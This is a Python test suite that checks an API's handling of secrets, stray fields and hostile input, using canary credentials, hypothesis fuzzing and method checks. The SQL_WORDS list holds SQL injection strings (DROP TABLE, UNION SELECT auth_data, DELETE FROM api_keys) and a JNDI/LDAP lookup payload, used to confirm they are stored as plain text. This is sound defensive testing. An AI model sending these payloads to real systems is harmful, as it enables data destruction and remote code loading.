"""What must hold for every resource: secrets stay in, strange words do no harm."""

import logging
from collections.abc import Callable

import hypothesis
import pytest
from hypothesis import strategies as st

from tests.handlers.api import OAUTH_DATA, Api, account_body, proxy_body

CANARY = "CANARY"
PATHS = ("/api/v1/accounts", "/api/v1/proxies", "/api/v1/providers", "/api/v1/api-keys")
SQL_WORDS = (
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    '" OR ""="',
    "1 UNION SELECT auth_data FROM accounts",
    "\\'; DELETE FROM api_keys; #",
    "%' AND 1=0 UNION ALL SELECT 1,2,3 --",
    "`; SHUTDOWN; --",
    "${jndi:ldap://192.0.2.1/a}",
    "%s %d {0} :name ?",
    "👩‍🚀 नमस्ते \u202etxt",
)


def provider_body(**changes: object) -> dict[str, object]:
    return {
        "id": "house",
        "name": "House",
        "dialect": "chat",
        "base_url": "http://192.0.2.7/v1",
        **changes,
    }


def key_body(**changes: object) -> dict[str, object]:
    return {"name": "ci", **changes}


BODIES: dict[str, Callable[..., dict[str, object]]] = {
    "/api/v1/accounts": account_body,
    "/api/v1/proxies": proxy_body,
    "/api/v1/providers": provider_body,
    "/api/v1/api-keys": key_body,
}


async def test_no_answer_and_no_log_line_holds_a_credential(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    secrets = {
        name: f"{CANARY}-{name}"
        for name in ("api", "bearer", "access", "refresh", "client", "param", "proxy")
    }
    bodies = [
        account_body(auth_data={"api_key": secrets["api"]}),
        account_body(auth_type="bearer", auth_data={"token": secrets["bearer"]}),
        account_body(
            auth_type="oauth",
            auth_data={
                **OAUTH_DATA,
                "access_token": secrets["access"],
                "refresh_token": secrets["refresh"],
                "client_secret": secrets["client"],
                "token_params": {"assertion": secrets["param"]},
            },
        ),
    ]
    proxy = proxy_body(url=f"http://user:{secrets['proxy']}@192.0.2.1:3128")
    told = [await api.made("/api/v1/proxies", proxy)]
    told += [await api.made("/api/v1/accounts", body) for body in bodies]
    key = await api.made("/api/v1/api-keys", {"name": "ci"})

    paths = [
        "/openapi.json",
        "/docs",
        "/health",
        "/api/v1/proxies/assignments",
        "/api/v1/stats/logs",
        "/api/v1/stats/summary",
    ]
    for path in PATHS:
        listed = await api.get(path)
        told.append(listed)
        paths += [f"{path}/{entry['id']}" for entry in listed.data]
    paths.append(f"/api/v1/proxies/{told[0].id}/assignments")
    paths.append(f"/api/v1/stats/proxies/{told[0].id}")
    told += [await api.get(path) for path in paths]
    for body in bodies:
        # The same secrets in bodies that are refused.
        told.append(await api.call("POST", "/api/v1/accounts", {**body, "label": "a\nb"}))
        told.append(await api.call("POST", "/api/v1/accounts", {**body, "auth_type": "cookie"}))
        told.append(await api.call("POST", "/api/v1/proxies", {**body, "url": proxy["url"]}))
    told.append(await api.call("POST", "/api/v1/proxies", proxy))
    told.append(await api.call("POST", "/api/v1/proxies", {**proxy, "url": f"{proxy['url']}/x"}))
    text = "\n".join(f"{answer.text} {dict(answer.headers)}" for answer in told)
    assert len(told) > 20
    assert CANARY not in text
    assert CANARY not in caplog.text
    assert str(key.json["key"]) not in text


@pytest.mark.parametrize(
    "secret", ["CANARY\n", "CANARY ", "CANARY\u0000", "CANARY\u00e9", "CANARY" * 4000]
)
async def test_a_refused_credential_is_not_repeated(api: Api, secret: str) -> None:
    for auth_type, data in (
        ("api_key", {"api_key": secret}),
        ("bearer", {"token": secret}),
        ("oauth", {**OAUTH_DATA, "refresh_token": f"{secret}\n"}),
        ("oauth", {**OAUTH_DATA, "client_secret": f"{secret}\n"}),
        ("oauth", {**OAUTH_DATA, "token_url": f"https://192.0.2.9/{secret}\n"}),
    ):
        body = account_body(auth_type=auth_type, auth_data=data)
        told = await api.call("POST", "/api/v1/accounts", body)
        assert told.status == 422
        assert CANARY not in told.text


BUILTIN_ROWS = {"/api/v1/providers": 2}
OTHER = {"/api/v1/providers": {"id": "other"}, "/api/v1/proxies": {"url": "http://192.0.2.5:1"}}
FOREIGN_FIELDS = (
    "id_",
    "created_at",
    "updated_at",
    "role",
    "user_id",
    "balance",
    "hash",
    "key_hash",
    "hint",
    "token_version",
    "token_state",
    "lease_owner",
    "egress_status",
    "egress_bound",
    "proxy_id",
    "assigned",
    "url_hash",
    "is_builtin",
    "cooldown_reset_at",
    "__proto__",
    "constructor",
    "credentials",
)


@hypothesis.settings(
    max_examples=60,
    suppress_health_check=[hypothesis.HealthCheck.function_scoped_fixture],
)
@hypothesis.given(
    path=st.sampled_from(PATHS),
    method=st.sampled_from(["POST", "PATCH", "PUT"]),
    field=st.sampled_from(FOREIGN_FIELDS) | st.text(min_size=1, max_size=12).map("x-".__add__),
    value=st.none() | st.booleans() | st.integers(-5, 5) | st.text(max_size=5) | st.just({}),
)
async def test_fields_that_are_not_the_callers_are_refused_and_change_nothing(
    api: Api, path: str, method: str, field: str, value: object
) -> None:
    if (await api.get(path)).json["total"] == BUILTIN_ROWS.get(path, 0):
        await api.made(path, BODIES[path](**OTHER.get(path, {})))
    before = await api.get(path)
    body = BODIES[path]()
    if path == "/api/v1/providers" and method == "PATCH":
        del body["id"]
    body[field] = value
    target = path if method == "POST" else f"{path}/{before.data[-1]['id']}"
    told = await api.call(method, target, body)
    assert (told.status, len(told.fields)) == (422, 1)
    assert told.error["message"].endswith(": Extra inputs are not permitted")  # type: ignore[union-attr] # a string
    assert (await api.get(path)).json == before.json


@pytest.mark.parametrize("words", SQL_WORDS)
async def test_words_of_sql_are_only_words(api: Api, words: str) -> None:
    account = await api.made(
        "/api/v1/accounts", account_body(label=words, metadata={words: [words]})
    )
    proxy = await api.made("/api/v1/proxies", proxy_body(label=words))
    provider = await api.made("/api/v1/providers", provider_body(name=words))
    key = await api.made("/api/v1/api-keys", key_body(name=words))
    # Once stored they are used again: read, changed, listed.
    for path, told, field in (
        ("/api/v1/accounts", account, "label"),
        ("/api/v1/proxies", proxy, "label"),
        ("/api/v1/providers", provider, "name"),
        ("/api/v1/api-keys", key, "name"),
    ):
        changed = await api.call("PATCH", f"{path}/{told.id}", {field: words})
        assert (changed.status, changed.json[field]) == (200, words)
        listed = await api.get(path)
        assert words in [entry[field] for entry in listed.data]
    assert (await api.get(f"/api/v1/accounts/{account.id}")).json["metadata"] == {words: [words]}
    counts = [(await api.get(path)).json["total"] for path in PATHS]
    assert counts == [1, 1, 3, 1]


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("DELETE", "/api/v1/accounts"),
        ("PUT", "/api/v1/accounts"),
        ("POST", f"/api/v1/accounts/{'0' * 32}"),
        ("GET", f"/api/v1/accounts/{'0' * 32}/reset"),
        ("PUT", "/api/v1/proxies/recalculate/x"),
        ("TRACE", "/api/v1/accounts"),
        ("POST", "/health"),
        ("POST", "/docs"),
    ],
)
async def test_a_wrong_method_or_path_reaches_nothing(api: Api, method: str, path: str) -> None:
    async with api.client.request(method, path) as response:
        assert response.status in {404, 405}
        if response.status == 405:
            assert response.headers["Allow"]
